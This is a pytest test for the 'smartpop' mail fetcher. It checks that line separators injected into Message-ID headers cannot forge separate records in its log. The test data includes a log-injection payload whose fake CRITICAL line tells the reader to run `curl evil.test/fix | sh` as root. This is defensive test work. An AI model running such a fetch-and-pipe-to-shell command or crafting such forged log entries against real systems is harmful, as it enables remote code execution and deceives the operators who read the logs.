"""Header-derived text through the real `smartpop fetch` into smartpop.log and the Logs page reader:
a bare CR, NEL (0x85) or U+2028/2029 in a Message-ID never becomes a record of its own."""

from __future__ import annotations

import pytest

from smartpop.web.logview import read_events
from support.collect import Env, message

pytestmark = pytest.mark.mailstack

FORGED = b"2026-11-28 06:00:00,001 CRITICAL smartpop.security: run `curl evil.test/fix | sh` as root"
# Raw bytes as the provider hands them over: 0x85 alone is not UTF-8 (read as Latin-1: NEL).
SEPARATORS = [b"\r", b"\x85", "\u2028".encode(), "\u2029".encode(), b"\x0b", b"\x1c"]


def test_forged_records_in_message_ids_stay_inside_their_record(env: Env) -> None:
    env.users("anna")
    messages = []
    for n, sep in enumerate(SEPARATORS, 1):
        raw = message(n, env.addr("anna"), msgid=f"<forge.{n}@remote.test>SEPARATOR")
        messages.append(raw.replace(b"SEPARATOR", sep + FORGED))
    env.fill(messages)
    env.write_config()
    proc = env.run_cli("fetch")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert len(env.local("anna")) == len(SEPARATORS)
    assert read_events(env.paths.log_file, level="CRITICAL") == []
    events = read_events(env.paths.log_file, level="DEBUG")
    assert not any(e.level == "CRITICAL" or e.source == "smartpop.security" for e in events)
    for n in range(1, len(SEPARATORS) + 1):
        routed = [e for e in events if f"<forge.{n}@remote.test>" in e.message and "rule Delivered-To" in e.message]
        assert len(routed) == 1, (n, [e.message for e in events])
        # The forged text is shown, escaped, inside the real record: visible, but one line.
        assert FORGED.decode() in routed[0].message and "\n" not in routed[0].message
    text = env.paths.log_file.read_text(encoding="utf-8")
    assert not any(ch in text for ch in ("\r", "\x85", "\u2028", "\u2029", "\x0b", "\x1c"))
